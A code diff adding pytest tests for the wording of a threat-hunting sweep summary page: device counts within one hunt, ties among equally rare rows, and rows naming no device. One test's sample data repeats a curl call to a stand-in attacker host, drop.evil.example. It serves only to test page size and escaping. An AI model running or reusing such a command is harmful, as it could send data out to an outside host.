@@ -96,6 +96,43 @@ def test_the_first_ten_rows_are_rare_and_varied() -> None:
     assert "50 of 53 new rows, rarest first" in content
 
 
+@pytest.mark.fault("A26", before="the page counted devices within one hunt and called it the fleet")
+def test_the_page_says_that_devices_are_counted_in_one_hunts_rows() -> None:
+    """A destination may be usual on devices that only another hunt covers, so the page does not speak of the fleet."""
+    content = page(sweep_summary())
+
+    assert "Devices and days are counted in this hunt's rows." in content
+    assert "3 never seen by this hunt before" in content
+
+
+@pytest.mark.fault("A26", before="the page said nothing of ties")
+def test_rows_as_rare_as_the_last_shown_are_counted() -> None:
+    """Of 70 rows that are equally rare the page shows 50; it says how many are left out, those not kept included."""
+    ranked = tuple(new_row(f"192.0.2.{n}", f"tool-{n}", 7) for n in range(70))
+    content = page(replace(sweep_summary(), ranked=ranked, new_rows=100, ties=30))
+
+    assert (
+        "50 of 100 new rows, rarest first, at most 3 of one process above the fold; 50 more are as rare"
+        in content
+    )
+
+
+def test_a_page_says_where_rows_name_no_device() -> None:
+    """The tile and the rows say that no device is named, instead of counting one."""
+    row = replace(new_row("192.0.2.1"), device="", device_id="", devices=0)
+    content = page(replace(sweep_summary(), ranked=(row,), new_devices=0, nameless=12))
+
+    assert "in rows that name no device; 3 never seen" in content
+    assert "no device named<div" in content
+
+
+def test_lost_rows_of_odd_ids_are_named_as_such() -> None:
+    """The part of the ids that do not begin with hex digits has words of its own, beside those that do."""
+    content = page(sweep_summary(lost=(Lost("00-0f", 1 / 16, "no"), Lost("other", 1 / 256, "no"))))
+
+    assert "Devices whose ids begin with 00 to 0f, other characters" in content
+
+
 def test_a_page_of_a_thousand_rows_per_hunt_stays_small() -> None:
     """Three hunts with a thousand new rows of long values each make a page of less than 300 KB."""
     long = "curl -sS 'https://drop.evil.example/?q=<a&b>' " * 40
